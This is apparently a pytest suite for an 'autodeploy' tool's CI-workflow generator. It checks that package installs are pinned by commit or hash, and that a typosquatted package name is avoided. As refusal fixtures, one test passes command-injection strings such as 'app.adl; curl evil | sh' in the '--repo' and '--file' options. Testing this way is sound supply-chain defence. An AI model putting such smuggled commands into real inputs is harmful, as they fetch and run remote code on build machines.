"""Every workflow `ci init` writes installs autodeploy pinned: a commit, or hashes."""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest
import yaml

from autodeploy.cli import main
from autodeploy.commands._ci_pin import DISTRIBUTION

SHA = "0123456789abcdef0123456789abcdef01234567"
H = "a" * 64
REPO = "https://example.org/acme/autodeploy.git"
LOCK = (f"# pip-compile --generate-hashes\n{DISTRIBUTION}==0.1.0 \\\n    --hash=sha256:{H}\n"
        f"lark==1.2.2 \\\n    --hash=sha256:{H} \\\n    --hash=sha256:{'b' * 64}\n")


def commands(workflow: str) -> list[str]:
    """The shell lines a GitHub Actions or GitLab CI workflow runs."""
    doc = yaml.safe_load(workflow)
    out: list[str] = []
    for job in (doc.get("jobs") or {}).values():
        out += [s["run"] for s in job.get("steps", []) if "run" in s]
    for key, job in doc.items():
        if isinstance(job, dict) and key != "jobs":
            for part in ("before_script", "script"):
                out += job.get(part) or []
    return out


def unpinned_installs(workflow: str) -> list[str]:
    """Each `pip install` that is neither hash-checked from a lock file nor a git commit."""
    bad = []
    for cmd in commands(workflow):
        for m in re.finditer(r"pip install ([^\n&|;]*)", cmd):
            args = shlex.split(m.group(1))
            hashed = "--require-hashes" in args and "-r" in args and len(args) == 3
            git = len(args) == 1 and re.fullmatch(rf"{DISTRIBUTION} @ git\+(https|ssh)://\S+@[0-9a-f]{{40}}", args[0])
            if not (hashed or git):
                bad.append(m.group(0))
    return bad


def _init(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    code = main(["ci", "init", "--force", *argv])
    out, err = capsys.readouterr()
    return code, out + err


@pytest.mark.parametrize("provider", ["github", "gitlab"])
def test_generated_workflows_pin_the_install(provider: str, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "ci").mkdir()
    (tmp_path / "ci" / "lock.txt").write_text(LOCK)
    for i, pin in enumerate((["--repo", REPO, "--commit", SHA], ["--requirements", "ci/lock.txt"])):
        out = tmp_path / f"wf{i}.yml"
        code, text = _init(capsys, "--provider", provider, "-o", str(out), *pin)
        assert code == 0, text
        workflow = out.read_text()
        installs = [c for c in commands(workflow) if "pip install" in c]
        assert len(installs) == 1
        assert unpinned_installs(workflow) == []
        assert "pip install autodeploy" not in workflow


def test_checker_flags_unpinned_installs() -> None:
    for line in ("python -m pip install autodeploy", f"pip install {DISTRIBUTION}",
                 f"pip install '{DISTRIBUTION} @ git+{REPO}@main'", "pip install -r requirements.txt"):
        assert unpinned_installs(f"jobs:\n  gate:\n    steps:\n      - run: {line}\n") != [], line


@pytest.mark.parametrize("argv,needle", [
    ([], "pinned install"),
    (["--repo", REPO], "pinned install"),
    (["--repo", REPO, "--commit", "main"], "40-hex"),
    (["--repo", "http://x/y; curl evil", "--commit", SHA], "--repo"),
    (["--requirements", "unhashed.txt"], "not pinned"),
    (["--requirements", "missing.txt"], "no such file"),
    (["--requirements", "other.txt"], f"does not pin {DISTRIBUTION}"),
    (["--repo", REPO, "--commit", SHA, "--file", "app.adl; curl evil | sh"], "--file"),
])
def test_unpinned_or_unsafe_options_refused(argv: list[str], needle: str, tmp_path: Path,
                                            capsys: pytest.CaptureFixture[str],
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "unhashed.txt").write_text(f"{DISTRIBUTION}>=0.1\n")
    (tmp_path / "other.txt").write_text(f"lark==1.2.2 --hash=sha256:{H}\n")
    code, text = _init(capsys, "--provider", "github", *argv)
    assert code == 2 and needle in text
    assert not (tmp_path / ".github").exists()


def test_distribution_name_is_not_the_squatted_one() -> None:
    pyproject = (Path(__file__).resolve().parents[2] / "pyproject.toml").read_text()
    assert re.search(rf'^name = "{DISTRIBUTION}"$', pyproject, re.M)
    assert DISTRIBUTION != "autodeploy"
